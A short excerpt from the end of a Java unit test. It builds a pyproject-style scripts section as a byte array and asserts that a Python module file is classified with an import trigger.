                [project.scripts]
                r = "r.cli:main"
                """.getBytes());
        assertThat(project.moduleTrigger("r-1/r/finder.py")).isEqualTo(Trigger.IMPORT);
    }
}
